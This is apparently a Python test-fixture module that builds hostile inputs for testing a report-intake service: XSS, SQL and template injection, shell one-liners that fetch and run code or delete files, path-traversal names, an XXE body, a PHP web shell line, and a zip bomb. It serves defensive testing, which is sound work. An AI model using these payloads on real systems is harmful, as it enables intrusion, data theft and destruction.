"""A corpus of hostile inputs: script and event-handler injection, template and SQL fragments, control
characters, direction overrides and zero-width characters, emoji floods, oversize and wrongly typed
values, deeply nested JSON, lying and path-traversing file names and contents, archives that expand to
gigabytes, images claiming huge dimensions, broken encodings and huge mail headers. Used by
tests/test_hostile_inputs.py through every channel."""
from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import lru_cache

BASE = "区人民医院骨科主任收受医药代表回扣，每用一套耗材返现两千元。"  # enough text to pass validation

MARKUP = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<body onpageshow=alert(1)>", "\"><script>alert(document.cookie)</script>",
    "'><img src=x onerror=fetch('//evil.example/'+document.cookie)>", "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">点我</a>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<object data=//evil.example/x.swf>", "<base href=//evil.example/>", "<form action=//evil.example><input>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<script>alert(1)//-->", "<![CDATA[<script>alert(1)</script>]]>", "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "{{7*7}}", "{{ config.items() }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(SECRET_KEY)s", "{SECRET_KEY}",
]
SQL = [
    "' OR '1'='1", "'; DROP TABLE reports; --", "\" OR 1=1 --", "1; SELECT pg_sleep(10); --",
    "') UNION SELECT password_hash FROM users --", "admin'--", "%' AND 1=0 UNION SELECT NULL --", "\\'; --",
    "1e309", "-1", "NULL", "\\x00", "%00", "%", "_", "\\", "'", "\"",
]
CONTROL = [
    "前\x00后", "\x00" * 50, "行\r\n\r\n头", "\x07\x08\x1b[31m红色\x1b[0m", "\x7f\x80\x9f", "\u2028\u2029",
    "名\u202e字gpj.exe", "\u202dLTR\u202c", "\u200b\u200c\u200d\ufeff", "张\u200b三", "\ufffe\uffff",
    "e\u0301\u0301\u0301\u0301\u0301\u0301", "Z̸̨̛͙͇̗̰̦̩̏̀̃͒͊ą̸̢͍͚̙̰̞̈́̈́̍l̵̛̺͖̗̬̈́̏̀ģ̷̣̩̩̯̀̈́̓o̶̦̙̪̊͂",
    "\U0001F600" * 10_000, "😀👨‍👩‍👧‍👦🇨🇳" * 500, "﷽" * 2000, "𠀀𪚥𫝀" * 300, "\t" * 1000, " " * 5000,
]
INJECTION = [
    "$(reboot)", "`id`", "| cat /etc/passwd", "; rm -rf / #", "&& curl evil.example | sh",
    "../../../../etc/passwd%00", "file:///etc/passwd", "\\\\evil\\share\\x", "http://169.254.169.254/latest/meta-data/",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "a\r\nSet-Cookie: x=1", "%0d%0aSet-Cookie:%20x=1", "%s%s%s%s%n", "%x%x%x%x", "{0.__class__.__mro__}",
    "раураl.com 登录", "＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞", "مرحبا שלום 你好 ‫مخفي‬",
    "9" * 1000, "-0", "0x7fffffffffffffff", "1' AND SLEEP(5)#", "\u0000\u0000", "\n\r\t",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>", '<a href="&#106;avascript:alert(1)">x</a>',
    '<img src="x" o\nnerror=alert(1)>', "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<table background="javascript:alert(1)">',
    "<link rel=import href=//evil.example>", "<embed src=//evil.example/x>", "<isindex action=javascript:alert(1)>",
    "\"-alert(1)-\"", "';alert(String.fromCharCode(88,83,83))//", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "<svg/onload=alert`1`>", "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<audio src=1 onerror=alert(1)>", "<marquee onstart=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">", "<div style=\"width:expression(alert(1))\">",
]
IDENTITY_FIELDS = [  # for the reporter's own name, phone and email
    ("reporter_email", "a@b.cn\r\nBcc: everyone@example.org"), ("reporter_email", "<script>@x.cn"),
    ("reporter_email", "\"a\"@[127.0.0.1]"), ("reporter_email", "a" * 300 + "@x.cn"),
    ("reporter_email", "用户@例子.中国"), ("reporter_phone", "+86 138 0000 0000 <script>"),
    ("reporter_phone", "1" * 500), ("reporter_phone", "\u202e13800000000"), ("reporter_name", "<b>张三</b>"),
    ("reporter_name", "\x00张三"), ("reporter_name", "张" * 5000), ("reporter_name", "Robert'); DROP TABLE users;--"),
]
OVERSIZE = ["回" * 20_001, "A" * 200_000, BASE * 2000]
WRONG_TYPES = [None, 0, -1, 1.5e308, True, [], ["数组"], {}, {"nested": "对象"}, [[[]]], {"$ne": None}]


def text_payloads() -> list[str]:
    """Strings to put into the report's text (after enough real words to pass validation)."""
    return MARKUP + SQL + INJECTION + CONTROL + OVERSIZE


def nested_json(depth: int) -> bytes:
    return b'{"text": ' + b'[' * depth + b'1' + b']' * depth + b'}'


def raw_bodies() -> list[tuple[str, bytes, str]]:
    """(label, body, content type) of API requests that are not well-formed."""
    return [
        ("nested 10000", nested_json(10_000), "application/json"),
        ("nested 100000", nested_json(100_000), "application/json"),
        ("invalid utf-8", b'{"text": "\xff\xfe\xfa' + BASE.encode() + b'"}', "application/json"),
        ("gbk bytes as json", ('{"text": "' + BASE + '"}').encode("gbk"), "application/json"),
        ("lone surrogate", b'{"text": "\\ud800' + BASE.encode() + b'"}', "application/json"),
        ("truncated", b'{"text": "' + BASE.encode(), "application/json"),
        ("not json", b"text=hello", "application/json"),
        ("empty", b"", "application/json"),
        ("json array", b'["' + BASE.encode() + b'"]', "application/json"),
        ("json string", b'"' + BASE.encode() + b'"', "application/json"),
        ("duplicate keys", ('{"text": "a", "text": "' + BASE + '"}').encode(), "application/json"),
        ("xml", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
         "application/xml"),
        ("form urlencoded", ("text=" + BASE).encode(), "application/x-www-form-urlencoded"),
        ("huge number", b'{"text": 1' + b'0' * 5000 + b'}', "application/json"),
        ("NaN", b'{"text": NaN}', "application/json"),
        ("utf-16", ('{"text": "' + BASE + '"}').encode("utf-16"), "application/json"),
        ("bom", b"\xef\xbb\xbf" + ('{"text": "' + BASE + '"}').encode(), "application/json"),
        ("multipart without report", b"--b\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n1\r\n--b--\r\n",
         "multipart/form-data; boundary=b"),
        ("multipart broken", b"--b\r\nContent-Disposition: form-data; name=\"report\"\r\n\r\n{", 
         "multipart/form-data; boundary=b"),
        ("text/plain", BASE.encode(), "text/plain"),
    ]


FILE_NAMES = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\system32\\config\\sam", "/etc/shadow", "C:\\boot.ini",
    "证据\x00.png", "con.png", "NUL", ".htaccess", "..", ".", "", " ", "a" * 1000 + ".png", "\u202egnp.exe",
    "照片\u200b.png", "<script>alert(1)</script>.png", "\"onerror=alert(1) x=\".png", "file\r\nX-Injected: 1.png",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "~/.ssh/authorized_keys", "emoji😀.png", "名字.PNG.exe", "a/b/c.png",
]


def png_header(width: int, height: int) -> bytes:
    """A PNG that claims `width` × `height` pixels (a decompression-bomb image if anyone decoded it)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    idat = zlib.compress(b"\x00" * 1024)
    return (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(ihdr)) + chunk + struct.pack(">I", zlib.crc32(chunk))
            + struct.pack(">I", len(idat)) + b"IDAT" + idat + struct.pack(">I", zlib.crc32(b"IDAT" + idat))
            + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND")))


@lru_cache(maxsize=1)
def zip_bomb(expanded: int = 1 << 30) -> bytes:
    """A .docx-looking archive whose one member expands to `expanded` bytes (1 GiB) of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with z.open("word/document.xml", "w", force_zip64=True) as member:
            block = b"\x00" * (1 << 20)
            for _ in range(expanded >> 20):
                member.write(block)
    return out.getvalue()


def file_payloads() -> list[tuple[str, str, bytes]]:
    """(label, file name, content) of evidence files that lie or attack."""
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
    html = b"<html><script>alert(1)</script></html>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    items = [(f"name {n!r:.30}", n, png_header(2, 2)) for n in FILE_NAMES]
    items += [
        ("exe named jpg", "证据.jpg", exe), ("html named png", "截图.png", html), ("svg", "图.svg", svg),
        ("svg named png", "图.png", svg), ("elf named pdf", "病历.pdf", b"\x7fELF" + b"\x00" * 100),
        ("pdf with javascript", "病历.pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"),
        ("empty file", "空.png", b""), ("truncated png", "坏.png", png_header(2, 2)[:20]),
        ("png claiming 100000x100000", "大图.png", png_header(100_000, 100_000)),
        ("png claiming 2^31 wide", "巨图.png", png_header(2 ** 31 - 1, 2 ** 31 - 1)),
        ("zip bomb named docx", "材料.docx", zip_bomb()), ("zip bomb named zip", "材料.zip", zip_bomb()),
        ("polyglot gif/js", "动图.gif", b"GIF89a/*" + b"\x00" * 20 + b"*/=alert(1)//"),
        ("php named jpg", "a.php.jpg", b"<?php system($_GET['c']); ?>"),
    ]
    return items


def mails() -> list[tuple[str, bytes]]:
    """(label, raw message) of hostile or broken mail."""
    def msg(headers: str, body: bytes) -> bytes:
        return headers.encode("utf-8", "surrogateescape").replace(b"\n", b"\r\n") + b"\r\n" + body
    base = "From: a@example.cn\nTo: jubao@xlt.gov.cn\nSubject: {subject}\nMessage-ID: <{mid}@example.cn>\n"
    out = []
    for n, (label, extra, body) in enumerate([
        ("html script body", "Content-Type: text/html; charset=utf-8\n",
         f"<p>{BASE}</p><script>alert(1)</script><img src=x onerror=alert(2)>".encode()),
        ("invalid utf-8 body", "Content-Type: text/plain; charset=utf-8\n", b"\xff\xfe\xfd" + BASE.encode() + b"\xc3\x28"),
        ("gbk labelled utf-8", "Content-Type: text/plain; charset=utf-8\n", BASE.encode("gbk")),
        ("unknown charset", "Content-Type: text/plain; charset=x-no-such-charset\n", BASE.encode()),
        ("broken base64", "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n",
         b"!!!not base64!!!" + BASE.encode()),
        ("huge header", "X-Junk: " + "a" * 200_000 + "\nContent-Type: text/plain; charset=utf-8\n", BASE.encode()),
        ("many headers", "".join(f"X-H{i}: v\n" for i in range(5000)) + "Content-Type: text/plain; charset=utf-8\n",
         BASE.encode()),
        ("nul bytes", "Content-Type: text/plain; charset=utf-8\n", BASE.encode() + b"\x00\x00" + b"end"),
        ("traversal attachment", "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=zz\n",
         b"--zz\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + BASE.encode() +
         b"\r\n--zz\r\nContent-Type: image/png\r\nContent-Disposition: attachment; filename=\"../../../etc/cron.d/x\"\r\n"
         b"Content-Transfer-Encoding: base64\r\n\r\n" + __import__("base64").b64encode(png_header(2, 2)) + b"\r\n--zz--\r\n"),
        ("deep multipart", "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b0\n",
         b"".join(f"--b{i}\r\nContent-Type: multipart/mixed; boundary=b{i + 1}\r\n\r\n".encode() for i in range(200))
         + BASE.encode()),
        ("rtl subject", "Content-Type: text/plain; charset=utf-8\n", BASE.encode()),
        ("emoji flood", "Content-Type: text/plain; charset=utf-8\n", (BASE + "😀" * 10_000).encode()),
    ]):
        subject = "举报\u202eexe.gpj" if label == "rtl subject" else "=?utf-8?B?5Li+5oql?= <script>"
        out.append((label, msg(base.format(subject=subject, mid=f"hostile{n}") + extra, body)))
    return out


def count() -> int:
    return (len(text_payloads()) + len(WRONG_TYPES) + len(IDENTITY_FIELDS) + len(raw_bodies()) + len(file_payloads())
            + len(mails()))
